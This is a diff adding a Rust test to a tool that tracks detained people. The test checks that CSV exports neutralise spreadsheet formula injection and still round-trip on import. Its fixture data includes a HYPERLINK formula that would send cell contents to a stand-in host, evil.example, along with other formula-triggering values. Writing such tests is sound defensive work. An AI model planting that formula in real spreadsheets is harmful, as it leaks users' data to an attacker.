@@ -201,3 +201,85 @@ async fn the_demo_is_the_same_on_both_databases() {
     pg.finish().await;
     sqlite.finish().await;
 }
+
+/// Values that a spreadsheet would run as formulas are written as text in every CSV
+/// habeas makes (export, list, statistics), and importing the export gives them back
+/// exactly.
+async fn csv_cells_never_become_formulas_and_still_round_trip(db: &TestDb) {
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let id = db.ok(&[
+        "person",
+        "add",
+        "--name",
+        "Leyla Məmmədova",
+        "--country",
+        "AZ",
+        "--category",
+        "journalist",
+        "--bio",
+        formula,
+        "--affiliation",
+        "@SUM(1+1)",
+        "--note",
+        "+994 50 000 00 00",
+        "--note-level",
+        "public",
+    ]);
+    db.ok(&[
+        "case",
+        "add",
+        "--person",
+        id.trim(),
+        "--arrested",
+        "2024-03-01",
+        "--place=-2+3",
+        "--court",
+        "'=already quoted",
+    ]);
+
+    let export = db.ok(&["export", "--format", "csv"]);
+    let list = db.ok(&["list", "--format", "csv", "--as-of", "2025-01-01"]);
+    for csv in [&export, &list] {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} in\n{csv}"
+                );
+            }
+        }
+        assert!(cells > 5, "{csv}");
+    }
+    assert!(export.contains("'=HYPERLINK"), "{export}");
+    assert!(export.contains("'@SUM(1+1)") && export.contains("'-2+3"));
+    assert!(export.contains("''=already quoted"), "{export}");
+
+    let file = db.dir.path().join("public.csv");
+    std::fs::write(&file, &export).unwrap();
+    let other = TestDb::new(if db.db.starts_with("postgres") {
+        crate::helpers::Backend::Postgres
+    } else {
+        crate::helpers::Backend::Sqlite
+    })
+    .await;
+    other.ok(&["import", file.to_str().unwrap()]);
+    let json = other.ok(&["export", "--format", "json"]);
+    let people: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let person = &people[0];
+    assert_eq!(person["bio"], formula);
+    assert_eq!(person["affiliations"][0], "@SUM(1+1)");
+    assert_eq!(person["cases"][0]["place"], "-2+3");
+    assert_eq!(person["cases"][0]["court"], "'=already quoted");
+    assert_eq!(
+        without_refs(&export),
+        without_refs(&other.ok(&["export", "--format", "csv"]))
+    );
+    other.finish().await;
+}
+on_both!(
+    csv_cells_never_become_formulas_and_still_round_trip,
+    csv_cells_never_become_formulas_and_still_round_trip
+);
